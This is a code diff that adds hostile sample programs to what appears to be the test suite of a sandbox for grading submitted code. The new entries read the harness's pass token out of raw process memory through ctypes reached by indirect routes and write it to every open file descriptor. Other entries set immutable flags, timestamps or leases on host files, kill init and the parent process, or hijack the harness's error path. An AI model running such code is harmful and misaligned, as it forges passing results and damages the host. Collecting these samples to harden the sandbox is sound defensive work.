@@ -21,6 +21,57 @@ def _module(code: str) -> str:
     return WRONG_BODY + code.strip("\n") + "\n"
 
 
+# Raw memory of its own process: with _ctypes' base types (reached without `import ctypes`),
+# a pointer to a 64 KiB char array at any address, whose bytes os.write copies into a pipe
+# (EFAULT, not a crash, where nothing is mapped). The heap is scanned for bytes objects of 32
+# hex characters (the pass token's shape), and each is written to every fd.
+_FORGE_WITH = """
+def _forge(VP, C, Array, pointer_to, Union):
+    import os, re, sys
+    Chunk = type("Chunk", (Array,), {"_type_": C, "_length_": 1 << 16})
+    U = type("U", (Union,), {"_fields_": [("a", VP), ("b", pointer_to(Chunk))]})
+    r, w = os.pipe()
+    tag = id(bytes).to_bytes(8, "little") + (32).to_bytes(8, "little")
+    pattern = re.compile(re.escape(tag) + b".{8}([0-9a-f]{32})\\x00", re.S)
+    loot, center = set(), id(sys) & ~0xFFFF
+    for address in range(center - (64 << 20), center + (64 << 20), 1 << 16):
+        u = U()
+        u.a = address
+        try:
+            n = os.write(w, u.b[0])
+        except OSError:
+            continue
+        data = b""
+        while len(data) < n:
+            data += os.read(r, n - len(data))
+        loot.update(m.group(1) for m in pattern.finditer(data))
+    for fd in range(3, 64):
+        for token in loot:
+            try:
+                os.write(fd, token + b"\\n")
+            except OSError:
+                pass
+    return True
+"""
+_CTYPES_FROM_SUBCLASSES = (
+    _FORGE_WITH
+    + """
+def _forge_from_subclasses():
+    found, seen, todo = {}, set(), [object]
+    while todo:
+        for sub in type.__subclasses__(todo.pop()):
+            if id(sub) not in seen:
+                seen.add(id(sub))
+                todo.append(sub)
+                if sub.__module__ == "_ctypes":
+                    found[sub.__name__] = sub
+    VP = type("VP", (found["_SimpleCData"],), {"_type_": "P"})
+    C = type("C", (found["_SimpleCData"],), {"_type_": "c"})
+    pointer_to = lambda cls: type("P", (found["_Pointer"],), {"_type_": cls})
+    return _forge(VP, C, found["Array"], pointer_to, found["Union"])
+"""
+)
+
 _DAEMON = '[sys.executable, "-c", "import time; time.sleep(60)  # @MARKER@"]'
 
 HOSTILE: dict[str, str] = {
@@ -130,6 +181,40 @@ class FakeOS:
         real_os._exit(0)
 sys.modules["os"] = FakeOS()
 raise RuntimeError("fail on purpose, then own the harness's error path")"""),
+    # --- raw memory of the program's own process (the token is in its heap) ---
+    "raw_memory_via_subclasses": _module(_CTYPES_FROM_SUBCLASSES + "_forge_from_subclasses()"),
+    "raw_memory_via_preimported_module": _module(
+        _FORGE_WITH
+        + """
+import multiprocessing.sharedctypes as shared
+c = shared.ctypes
+_forge(c.c_void_p, c.c_char, c.Array, c.POINTER, c.Union)"""
+    ),
+    "raw_memory_via_unlisted_submodule": _module(
+        _FORGE_WITH
+        + """
+import sys
+if False:
+    import multiprocessing.sharedctypes  # named, so the harness pre-imports it
+from ctypes._endian import c_void_p, c_char, Array, POINTER, Union
+_forge(c_void_p, c_char, Array, POINTER, Union)"""
+    ),
+    "raw_memory_from_candidate": "    return _forge_from_subclasses()\n" + _CTYPES_FROM_SUBCLASSES,
+    "raw_memory_from_returned_eq": """\
+    class Forged:
+        def __eq__(self, other):
+            return _forge_from_subclasses() and other is True
+    return Forged()
+"""
+    + _CTYPES_FROM_SUBCLASSES,
+    "raw_memory_from_finalizer": """\
+    class Finalizer:
+        def __del__(self):
+            _forge_from_subclasses()
+    Finalizer()
+    return True
+"""
+    + _CTYPES_FROM_SUBCLASSES,
     "silence_failures": _module("import sys\nsys.unraisablehook = lambda u: None"),
     "close_harness_fds": _module("import os\nos.closerange(3, 256)"),
     # --- resource abuse ---
@@ -443,6 +528,22 @@ for _ in range(150):
 import os, resource
 resource.setrlimit(resource.RLIMIT_NPROC, (10 ** 6, 10 ** 6))
 os.fork()"""),
+    "immutable_flag_on_host_file": _module("""
+import fcntl, os, struct
+fd = os.open("@SENTINEL@", os.O_RDONLY)
+fcntl.ioctl(fd, 0x40086602, struct.pack("i", 0x10))  # FS_IOC_SETFLAGS: immutable"""),
+    "utime_host_file": _module("""
+import os
+os.utime("@SENTINEL@", (0, 0))"""),
+    "immutable_file_in_workdir": _module("""
+import fcntl, os, struct
+open("stuck", "w").close()
+fcntl.ioctl(os.open("stuck", os.O_RDONLY), 0x40086602, struct.pack("i", 0x10))"""),
+    "signals_on_host_file": _module("""
+import fcntl, os
+fd = os.open("@SENTINEL@", os.O_RDONLY)
+fcntl.fcntl(fd, fcntl.F_SETOWN, os.getppid())
+fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)"""),
     "kill_init_and_parent": _module("""
 import os, signal
 for pid in (1, os.getppid(), -1):
@@ -494,6 +595,10 @@ OS_LAYER = (
     "spawn_many_processes",
     "raise_rlimit_then_fork",
     "kill_init_and_parent",
+    "immutable_flag_on_host_file",
+    "utime_host_file",
+    "immutable_file_in_workdir",
+    "signals_on_host_file",
 )
 KERNEL_LAYER = OS_LAYER + ("fork_bomb", "thread_bomb")
 
